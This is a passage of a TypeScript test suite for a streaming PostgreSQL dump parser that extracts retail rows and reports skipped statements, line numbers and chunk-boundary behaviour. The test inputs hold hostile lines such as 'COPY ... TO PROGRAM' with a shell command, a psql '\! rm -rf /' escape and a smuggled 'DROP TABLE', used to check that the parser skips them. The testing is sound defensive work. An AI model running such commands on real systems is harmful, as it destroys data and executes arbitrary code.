    const r = parse(text);
    expect(r.rows).toEqual([]);
    expect(r.skippedItems.map((s) => [s.line, s.kind])).toEqual([
      [2, 'SET'],
      [3, 'SET'],
    ]);
  });

  it('reports skipped items with kind and line', () => {
    const text = [
      '--', // 1
      '-- PostgreSQL database dump', // 2
      '--', // 3
      '', // 4
      '\\restrict AbCdEf123', // 5
      'SET statement_timeout = 0;', // 6
      "SELECT pg_catalog.set_config('search_path', '', false);", // 7
      'DROP TABLE IF EXISTS public.retail;', // 8
      'CREATE TABLE public.orders (id integer);', // 9
      'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;', // 10
      'DO $$ BEGIN PERFORM 1; END $$;', // 11
      "COPY public.retail TO PROGRAM 'sh -c id';", // 12
      '\\! rm -rf /', // 13
      'ALTER TABLE ONLY public.orders', // 14
      '    ADD CONSTRAINT orders_pkey PRIMARY KEY (id);', // 15
      'CREATE UNIQUE INDEX i ON public.orders (id);', // 16
      'GRANT ALL ON TABLE public.orders TO PUBLIC;', // 17
      'COMMENT ON TABLE public.orders IS $c$ x; y $c$;', // 18
      'BEGIN;', // 19
      'COMMIT;', // 20
      '\\unrestrict AbCdEf123', // 21
      '',
    ].join('\n');
    const r = parse(text);
    expect(r.rows).toEqual([]);
    expect(r.skippedItems.map((s) => [s.line, s.kind])).toEqual([
      [5, 'psql meta-command \\restrict'],
      [6, 'SET'],
      [7, 'SELECT'],
      [8, 'DROP TABLE'],
      [9, 'CREATE TABLE'],
      [10, 'CREATE FUNCTION'],
      [11, 'DO'],
      [12, 'COPY (not retail data from stdin)'],
      [13, 'psql meta-command \\!'],
      [14, 'ALTER TABLE'],
      [16, 'CREATE INDEX'],
      [17, 'GRANT'],
      [18, 'COMMENT'],
      [19, 'BEGIN'],
      [20, 'COMMIT'],
      [21, 'psql meta-command \\unrestrict'],
    ]);
    expect(r.skippedItems[0]!.text).toBe('\\restrict AbCdEf123');
    expect(r.skippedItems[8]!.text).toBe('\\! rm -rf /');
  });

  it('skipped text starts with the statement, whitespace collapsed, at most 120 characters', () => {
    const long = `CREATE TABLE public.orders (\n    ${Array.from({ length: 40 }, (_, i) => `c${i} integer`).join(',\n    ')}\n);\n`;
    const r = parse(long);
    const item = r.skippedItems[0]!;
    expect(item.text.startsWith('CREATE TABLE public.orders ( c0 integer, c1 integer')).toBe(true);
    expect(item.text.length).toBeLessThanOrEqual(120);
    expect(item.text).not.toMatch(/\s\s|\n/);
  });

  it('the text of a short skipped statement runs on into the following statements', () => {
    // SkippedItem.text is documented as "the start of the statement"; it is a 200-character window of the buffer,
    // so it also depends on how the input was chunked.
    const r = parse(`SET a = 1;\nDROP TABLE retail;\nSELECT 1;\n`);
    expect(r.skippedItems.map((s) => s.text)).toEqual(['SET a = 1;', 'DROP TABLE retail;', 'SELECT 1;']);
  });

  it('a meta-command is a whole line, even with a ; or SQL on it', () => {
    const r = parse(`\\set ON_ERROR_STOP on; INSERT INTO retail VALUES ('1');\nSET x = 1;\n`);
    expect(r.rows).toEqual([]);
    expect(r.skippedItems.map((s) => [s.line, s.kind])).toEqual([
      [1, 'psql meta-command \\set'],
      [2, 'SET'],
    ]);
  });

  it('a meta-command on the last line without a newline', () => {
    const r = parse(`SET x = 1;\n\\unrestrict abc`);
    expect(r.skippedKinds).toEqual(['SET', 'psql meta-command \\unrestrict']);
  });

  it('an empty file and a file of comments give nothing', () => {
    expect(parse('').log).toEqual([]);
    expect(parse('-- only a comment').log).toEqual([]);
    expect(parse('\n\n  /* c */ \n-- x\n').log).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------------------------

describe('line numbers', () => {
  it('rows and bad rows carry the 1-based line of the file, across blocks and statements', () => {
    const text = [
      '--', // 1
      'SET a = 1;', // 2
      '', // 3
      `COPY public.retail (country, ${RETAIL_COLUMNS.slice(0, 7).join(', ')}) FROM stdin;`, // 4
      `UK\t${copyLine(row('1').slice(0, 7))}`, // 5
      'only\tthree\tvalues', // 6
      `UK\t${copyLine(row('2').slice(0, 7))}`, // 7
      '\\.', // 8
      "INSERT INTO retail VALUES ('3', 'S', NULL, 1,", // 9
      "  '2010-01-01 00:00:00', 1, NULL, 'UK'),", // 10
      "('4', 'S', E'multi\\nline', 1, '2010-01-01 00:00:00', 1, NULL, 'UK'), ('5', 'S', 'x", // 11
      "y', 1, now(), 1, NULL, 'UK'),", // 12
      "('6', 'S', NULL, 1, '2010-01-01 00:00:00', 1, NULL, 'UK');", // 13
      `COPY public.retail (${COLS}) FROM stdin;`, // 14
      copyLine(row('7', { quantity: '7.0' })), // 15
      'x', // 16
      '\\.', // 17
      '',
    ].join('\n');
    const r = parse(text);
    expect(r.rows.map((x) => [x.values[r.rows[0] === x ? 1 : 0] ?? '', x.line]).length).toBe(6);
    expect(r.retailValues.map((v) => v[0])).toEqual(['1', '2', '3', '4', '6', '7']);
    expect(r.rows.map((x) => x.line)).toEqual([5, 7, 9, 11, 13, 15]);
    expect(r.badRows.map((b) => b.line)).toEqual([6, 11, 16]);
    // The last COPY has the same columns as the INSERTs: no new columns event.
    expect(r.columnEvents.map((c) => c.line)).toEqual([4, 9]);
    expect(r.skippedItems.map((s) => s.line)).toEqual([2]);
  });

  it('line numbers stay right after long canonical runs and chunked input', () => {
    const lines = Array.from({ length: 300 }, (_, i) => copyLine(row(String(i))));
    lines[150] = 'bad';
    lines[299] = copyLine(row('299', { quantity: '1.0' }));
    const text = `SET a = 1;\n${COPY_HEAD}\n${lines.join('\n')}\n\\.\nINSERT INTO retail VALUES ('x', 'S', NULL, 1, '2010-01-01 00:00:00', 1, NULL, 'UK');\n`;
    for (const size of [Infinity, 4096, 100, 17]) {
      const r = parse(text, size);
      expect(r.badRows.map((b) => b.line)).toEqual([153]);
      expect(r.rows.filter((x) => !x.canonical).map((x) => x.line)).toEqual([302, 304]);
      expect(r.rows).toHaveLength(300);
    }
  });
});

// ---------------------------------------------------------------------------------------------------------------

describe('chunk boundaries', () => {
  const insertDump = [
    '--',
    '-- PostgreSQL database dump',
    '--',
    '\\restrict Xy12',
    'SET standard_conforming_strings = on;',
    "SELECT pg_catalog.set_config('search_path', '', false);",
    'CREATE FUNCTION public.evil() RETURNS void LANGUAGE plpgsql AS $fn$',
    "BEGIN INSERT INTO retail VALUES ('X', 'Y', NULL, 1, '2010-01-01 00:00:00', 1, NULL, 'UK'); END;",
    '$fn$;',
    "DO $$ BEGIN PERFORM 'INSERT INTO retail VALUES (1);'; END $$;",
    '/* a /* nested ; */ comment; */',
    'CREATE TABLE public.retail (',
    '    invoice_no text, stock_code text, description text, quantity integer,',
    '    invoice_date timestamp without time zone, unit_price numeric(10,2), customer_id real, country text',
    ');',
    "INSERT INTO public.retail VALUES ('536365', '85123A', 'WHITE HANGING HEART T-LIGHT HOLDER', 6, '2010-12-01 08:26:00', 2.55, 17850, 'United Kingdom');",
    "INSERT INTO public.retail VALUES ('536365', '71053', 'WHITE METAL LANTERN', 6, '2010-12-01 08:26:00', 3.39, 1.785e+04, 'United Kingdom');",
    "INSERT INTO public.retail VALUES ('C536379', 'D', 'Discount', -1, '2010-12-01 09:41:00'::timestamp without time zone, 27.50, 14527.0, 'United Kingdom'),",
    "  ('536380', '22961', E'JAM \\'MAKING\\' SET\\nPRINTED \\303\\251', 24, '2010-12-01 09:41:00', .85, NULL, 'United Kingdom'),",
    "  ('536381', 'x;y', 'it''s -- not /* a */ comment', 1, '2010-12-01 09:41:00', 1E2, NULL, $$EIRE$$);",
    "INSERT INTO public.retail (country, invoice_no, stock_code, description, quantity, invoice_date, unit_price, customer_id) VALUES ('France', '536370', '22728', NULL, 24, '2010-12-01 08:45:00', 3.75, 12583);",
    "INSERT INTO public.retail VALUES ('536382', 'S', NULL, 1, now(), 1, NULL, 'UK') ON CONFLICT DO NOTHING;",
    "INSERT INTO public.orders VALUES (1, 'x; y');",
    'SET standard_conforming_strings = off;',
    "INSERT INTO public.retail VALUES ('536383', 'a\\'b', 'c\\\\d', 1, '2010-12-01 09:41:00', 1, NULL, 'UK');",
    '\\unrestrict Xy12',
    '',
  ].join('\n');

  const copyDump = [
    '-- dump',
    "SET client_encoding = 'UTF8';",
    'COPY public.orders (id, note) FROM stdin;',
    '1\t; DROP TABLE retail;',
    "2\tINSERT INTO retail VALUES ('x');",
    '\\.',
    `COPY public.retail (${COLS}) FROM stdin;`,
    copyLine(row('536365')),
    copyLine(row('536366', { description: 'a\\tb\\\\c \\303\\251 \\x41', customer_id: '17850.0' })),
    copyLine(row('536367')),
    'short\tline',
    copyLine(row('536368', { quantity: '6.0' })),
    copyLine(row('536369')),
    '\\.',
    `COPY public.retail (country, ${RETAIL_COLUMNS.slice(0, 7).join(', ')}) FROM stdin;\r`,
    `UK\t${copyLine(row('536370').slice(0, 7))}\r`,
    '\\.\r',
    'COPY public.retail FROM stdin WITH (FORMAT csv);',
    'a,b,c',
    '\\.',
    "INSERT INTO public.retail VALUES ('536371', 'S', NULL, 1, '2010-12-01 09:41:00', 1, NULL, 'UK');",
    '',
  ].join('\n');

  it('the INSERT dump gives the same events in chunks of 1, 2, 3, 7, 64, at every split point and random splits', () => {
    const events = expectChunkIndependent(insertDump);
    // And the one-chunk result is what we expect.
    const r = parse(insertDump);
    expect(events).toEqual(normalized(r));
    expect(r.retailValues.map((v) => v[0])).toEqual([
      '536365',
      '536365',
      'C536379',
      '536380',
      '536381',
      '536370',
      '536383',
    ]);
    expect(r.values[3]![2]).toBe("JAM 'MAKING' SET\nPRINTED é");
    expect(r.values[4]).toEqual([
      '536381',
      'x;y',
      "it's -- not /* a */ comment",
      '1',
      '2010-12-01 09:41:00',
      '1E2',
      null,
      'EIRE',
    ]);
    expect(r.values[6]!.slice(1, 3)).toEqual(["a'b", 'c\\d']);
    expect(r.badRows.map((b) => b.line)).toEqual([22]);
    expect(r.rows.map((x) => x.line)).toEqual([16, 17, 18, 19, 20, 21, 25]);
    expect(r.skippedItems.map((s) => s.kind)).toEqual([
      'psql meta-command \\restrict',
      'SET',
      'SELECT',
      'CREATE FUNCTION',
      'DO',
      'CREATE TABLE',
      'INSERT',
      'SET',
      'psql meta-command \\unrestrict',
    ]);
  });

  it('the COPY dump gives the expected events at every split point', () => {
    const windows: [number, number][] = [];
    for (const m of copyDump.matchAll(/FROM stdin[^;\n]*;\r?\n/g)) {
      const semi = m.index + m[0].indexOf(';') + 1;
      windows.push([semi, m.index + m[0].length - 1]);
    }
    const inWindow = (cut: number) => windows.some(([a, b]) => cut >= a && cut <= b);
    const events = expectChunkIndependent(copyDump, inWindow);
    const r = parse(copyDump);
    expect(events).toEqual(normalized(r));
    expect(r.retailValues.map((v) => v[0])).toEqual([
      '536365',
      '536366',
      '536367',
      '536368',
      '536369',
      '536370',
      '536371',
    ]);
    expect(r.values[1]![2]).toBe('a\tb\\c é A');
    expect(r.badRows).toEqual([
      { line: 11, reason: 'wrong column count: 2 values for 8 columns', text: 'short line' },
    ]);
    expect(r.rows.filter((x) => !x.canonical).map((x) => x.line)).toEqual([9, 12, 16, 21]);
    expect(r.skippedItems.map((s) => [s.line, s.kind])).toEqual([
      [2, 'SET'],
      [4, 'COPY data for public.orders'],
      [19, 'COPY data for public.retail'],
    ]);
  });

  it('the COPY dump gives the same events in chunks of 1, 2, 3, 7, 64 and at every split point', () => {
    expectChunkIndependent(copyDump);
  });

  it('a chunk boundary between "COPY ... FROM stdin;" and its newline', () => {
    const text = `${COPY_HEAD}\n${copyLine(row('1'))}\n\\.\n`;
    const r = new Recorder();
    feedSplit(new SqlDumpParser(r, 'x'), text, [COPY_HEAD.length]);
    expect(r.badRows).toEqual([]);
    expect(r.values).toEqual([row('1')]);
  });

  it('message details (skipped text, bad-row reason excerpts) do not depend on the chunking', () => {
    const text = `SET a = 1;\nINSERT INTO retail VALUES ('1', 'S', NULL, 1, now(), 1, NULL, 'UK');\nSELECT 2;\n`;
    const whole = parse(text).log;
    for (const size of [1, 7, 64]) expect(parse(text, size).log).toEqual(whole);
  });

  it('multi-byte characters and surrogate pairs split across chunks', () => {
    const text = `INSERT INTO retail VALUES ('1', '😀', 'café 😀 ünï', 1, '2010-01-01 00:00:00', 1, NULL, '日本');\n${COPY_HEAD}\n${copyLine(row('2', { description: '😀€' }))}\n\\.\n`;
    for (const size of [1, 2, 3]) {
      const r = parse(text, size);
      expect(r.values[0]!.slice(1, 3)).toEqual(['😀', 'café 😀 ünï']);
      expect(r.values[0]![7]).toBe('日本');
      expect(r.values[1]![2]).toBe('😀€');
    }
  });

  it('large input in big chunks keeps memory small and reads every row', () => {
    const n = 5000;
    const body = Array.from(
      { length: n },
      (_, i) =>
        `INSERT INTO public.retail VALUES ('${i}', 'S', NULL, 1, '2010-01-01 00:00:00', 1, NULL, 'UK');`,
    ).join('\n');
    const r = parse(body + '\n', 8192);
    expect(r.rows).toHaveLength(n);
    expect(r.rows[n - 1]!.line).toBe(n);
  });
});
